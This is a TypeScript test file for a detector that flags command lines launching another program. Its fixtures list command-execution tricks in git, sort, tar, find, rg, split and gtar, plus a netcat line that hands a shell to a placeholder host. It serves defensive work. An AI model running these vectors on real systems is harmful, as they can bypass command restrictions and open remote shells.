import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { runsAnotherProgram } from '#core/analysis/runs-programs.ts';
import { cheapestMs } from '#support/timing.ts';

const words = (line: string) => line.split(' ');

describe('runsAnotherProgram (S10)', () => {
  it.each([
    'git -c core.pager=sh log',
    'git -ccore.pager=sh log',
    'git --exec-pat=/x log',
    'git bisect run make',
    'sort --compress-prog=sh',
    'sort --c=sh',
    'tar -cIf x.tar sh',
    'tar --to-comm sh',
    'find . -execdir id ;',
    'rg --pre=sh x',
    'jq -n $ENV',
    'cargo test',
    'docker run x',
    'vim x',
    '/usr/bin/nvim x',
    'pip3.12 install x',
    'vim.basic x',
    'nc.traditional -e sh host 1',
    'gtar --checkpoint-action=exec=id',
    'split --filter=sh x',
  ])('%s does', (line) => {
    expect(runsAnotherProgram(words(line))).toMatch(/ runs? .*program/);
  });

  it.each([
    'git status',
    'git log -n 5',
    'sort -k 2 file',
    'tar -tf x.tar',
    'rg pattern src',
    'jq .name',
    'cargo metadata',
    'docker ps',
    'ls -la',
    'gperf -c x',
    'split -n 3 x',
    'constructor x',
    '__proto__ x',
  ])('%s does not, as far as is known', (line) => {
    expect(runsAnotherProgram(words(line))).toBeNull();
  });

  it('never throws and never takes long', () => {
    const program = fc.oneof(fc.constantFrom('git', 'sed', 'awk', 'jq', 'tar'), fc.string());
    fc.assert(
      fc.property(program, fc.array(fc.string({ maxLength: 2_000 })), (name, args) => {
        expect(cheapestMs(() => void runsAnotherProgram([name, ...args]))).toBeLessThan(50);
      }),
    );
  });
});
